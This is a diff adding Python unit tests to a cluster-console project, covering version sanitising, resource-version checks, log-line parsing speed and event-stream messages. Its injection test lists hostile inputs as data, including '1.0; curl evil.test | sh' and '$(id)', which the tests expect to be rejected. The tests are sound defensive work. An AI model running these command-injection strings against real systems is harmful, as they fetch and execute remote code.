@@ -1,5 +1,6 @@
 """What pages show, without a server."""
 
+import time
 from datetime import UTC, datetime
 from typing import Any
 
@@ -10,7 +11,7 @@ from tests.console_objects import SCRIPT, cluster_operators, cluster_version, co
 
 from quarterdeck.api.meta import Object
 from quarterdeck.console.account import condition_changes
-from quarterdeck.console.feed import Update, digest, updates
+from quarterdeck.console.feed import Update, digest, message, updates
 from quarterdeck.console.log_tail import line_html, parse_line
 from quarterdeck.console.pages.access_log_form import (
     AccessLogFields,
@@ -19,11 +20,11 @@ from quarterdeck.console.pages.access_log_form import (
     fields_of,
     logging_of,
 )
-from quarterdeck.console.pages.changes import compared, merge_patch
+from quarterdeck.console.pages.changes import compared, is_resource_version, merge_patch
 from quarterdeck.console.pages.operator import related, shown_events
 from quarterdeck.console.pages.overview import headline, ordered, query_of, row_of, shown, summary
 from quarterdeck.console.pages.progress import progress_of
-from quarterdeck.console.pages.release import offered
+from quarterdeck.console.pages.release import OfferedUpdate, offered, version_to_type
 from quarterdeck.console.pages.subscriptions import shown_entries, waiting_plan
 from quarterdeck.console.picture import drawn, stages_with_state
 from quarterdeck.console.render import age, environment, fragment, show_age, static_url, with_ages
@@ -137,6 +138,39 @@ def test_progress_of_a_cluster_that_reports_nothing(version: Object) -> None:
 def test_a_link_from_the_cluster_is_never_a_script() -> None:
     found = offered({"status": {"availableUpdates": [{"version": "1", "url": "javascript:x"}]}})
     assert [one.url for one in found] == [""]
+
+
+@pytest.mark.parametrize(
+    ("version", "typed"),
+    [
+        ("4.21.0-rc.1+abc", "4.21.0-rc.1+abc"),
+        ("1.0; curl evil.test | sh", "VERSION"),
+        ("$(id)", "VERSION"),
+        ("'", "VERSION"),
+        ("1\n", "VERSION"),
+        ("1" * 129, "VERSION"),
+    ],
+)
+def test_a_version_in_a_command_is_nothing_but_a_version(version: str, typed: str) -> None:
+    assert version_to_type([OfferedUpdate(version=version)]) == typed
+    assert version_to_type([]) == "VERSION"
+
+
+@pytest.mark.parametrize(
+    ("text", "possible"),
+    [("1", True), ("9" * 19, True), ("9" * 20, False), ("²", False), ("", False)],
+)
+def test_a_resource_version_of_a_form(text: str, possible: bool) -> None:
+    assert is_resource_version(text) is possible
+
+
+def test_a_count_with_too_many_digits_does_no_harm() -> None:
+    condition = {"type": "Progressing", "status": "True", "message": f"{'9' * 5000} of 1 done"}
+    assert progress_of({"status": {"conditions": [condition]}}).updating
+
+
+def test_the_first_message_to_a_viewer_is_the_whole_page() -> None:
+    assert message([Update("a", "1")], "s", "whole").startswith(b"event: whole\nid: s\n")
 
 
 def test_changes_of_conditions() -> None:
@@ -269,6 +303,20 @@ def test_a_line_for_people_is_taken_apart() -> None:
     assert line is not None
     assert (line.level, line.event) == ("debug", "manifest skipped")
     assert line.fields == "manifest=x.yaml v=4 why='no'"
+
+
+@pytest.mark.parametrize("rest", [" " * 3990, "a " * 1995, "a  b=" * 790, "_" * 3990])
+def test_no_line_takes_long(rest: str) -> None:
+    began = time.process_time()
+    for _ in range(10):
+        parse_line(f"2026-11-18T00:06:24.080Z x [info] {rest}", "p")
+    assert time.process_time() - began < 1.0
+
+
+def test_a_line_without_an_event_has_its_fields() -> None:
+    line = parse_line("2026-11-18T00:06:24.080Z x [info     ]  a=1 b=2  ", "p")
+    assert line is not None
+    assert (line.event, line.fields) == ("", "a=1 b=2")
 
 
 @given(st.text(max_size=80))
